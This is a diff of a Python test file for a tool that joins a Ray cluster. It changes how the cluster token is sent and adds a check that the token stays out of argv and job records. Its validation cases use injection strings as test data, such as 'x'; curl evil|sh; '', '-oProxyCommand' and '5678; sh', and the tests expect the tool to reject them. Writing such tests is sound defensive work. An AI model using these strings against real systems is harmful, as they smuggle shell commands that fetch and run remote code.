@@ -83,7 +83,7 @@ def test_join_and_leave(dashboard):
     """A cluster that was joined is left without a job, a record or a token."""
     cluster = join(dashboard)
     assert (cluster.token, " ".join(cluster.there.prepared), cluster.there.dial) == (
-        dashboard.agreed,
+        dashboard.sent_token,
         "n1",
         "127.0.0.1:5679",
     )
@@ -95,7 +95,7 @@ def test_join_and_leave(dashboard):
 
 
 ANSWER = {
-    "nodes": [NODE], "public": "ab", "head": "10.0.0.1", "gcs": "10.0.0.1:6379", "logs": "/tmp/ray", "ports": [1, 2],
+    "nodes": [NODE], "head": "10.0.0.1", "gcs": "10.0.0.1:6379", "logs": "/tmp/ray", "ports": [1, 2],
 }  # fmt: skip
 
 
@@ -105,11 +105,8 @@ ANSWER = {
         ({"head": "x'; curl evil|sh; '"}, "the head has no address"),
         ({"head": "-oProxyCommand"}, "the head has no address"),
         ({"head": 7}, "BadRecord 'head' of the answer is not a text"),
-        ({"public": "1"}, "its public value is none"),
-        ({"public": f"{on_nodes.PRIME - 1:x}"}, "its public value is none"),
-        ({"public": "zz"}, "ValueError invalid literal"),
-        ({"ports": [5678]}, "its ports are none"),
-        ({"ports": [0, 70000]}, "its ports are none"),
+        ({"ports": [5678]}, "its ports are not two ports"),
+        ({"ports": [0, 70000]}, "its ports are not two ports"),
         ({"ports": ["5678; sh", 2]}, "BadRecord 'ports' of the answer"),
         ({"gcs": None}, "not all facts of the head"),
         ({"nodes": []}, "not all facts of the head"),
@@ -161,12 +158,13 @@ def test_half_a_line(dashboard):
     assert len(dashboard.seen) >= asked + 6
 
 
-def test_a_public_value_that_nobody_asked_for(monkeypatch):
-    """Where Ray has a token, nothing in an answer replaces it."""
-    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
-    with JoinableDashboard(TOKEN) as dashboard:
-        dashboard.answer = lambda request: {**dashboard.usual(request), "public": "abcdef"}
-        assert join(dashboard).token == TOKEN
+def test_how_the_token_is_sent(dashboard):
+    """It is in an upload, and not in the request, which is in argv and in Ray's table of jobs."""
+    cluster = join(dashboard)
+    assert dashboard.sent_token == cluster.token
+    assert all(cluster.token not in job["entrypoint"] for job in dashboard.jobs.values())
+    assert not any(cluster.token in seen for seen in dashboard.seen)
+    assert dashboard.packages == {}
 
 
 def test_a_log_without_end(dashboard, monkeypatch):
@@ -238,14 +236,14 @@ def test_the_dashboard_of_this_machine(tmp_path):
 
 
 def test_a_token_that_was_lost_here(dashboard):
-    """Where this machine has lost the token's file, joining again agrees on a new token, with a new gateway."""
+    """Where this machine has lost the token's file, joining again makes a new token, with a new gateway."""
     first = join(dashboard)
     first.token_file.unlink()
     with pytest.raises(RaydebugError) as raised:
         assert first.token
     assert raised.value.fix == f"`raydebug up --join {dashboard.url} --name x` starts it again"
     second = join(dashboard)
-    assert (second.token, second.id) == (dashboard.agreed, first.id)
+    assert (second.token, second.id) == (dashboard.sent_token, first.id)
     assert dashboard.running() == [second.there.job]
 
 
@@ -357,7 +355,7 @@ def test_a_ray_that_now_asks_for_a_token(dashboard, monkeypatch):
     dashboard.token = TOKEN
     error = refused(dashboard, "auth.wrong-token")
     assert "RAY_AUTH_TOKEN" in error.fix
-    assert not any(dashboard.agreed in header for header in dashboard.headers)  # the gateway's own is not Ray's
+    assert not any(dashboard.sent_token in header for header in dashboard.headers)  # the gateway's own is not Ray's
     monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)
     cluster = join(dashboard)
     assert (cluster.token, cluster.there.asks_token) == (TOKEN, True)
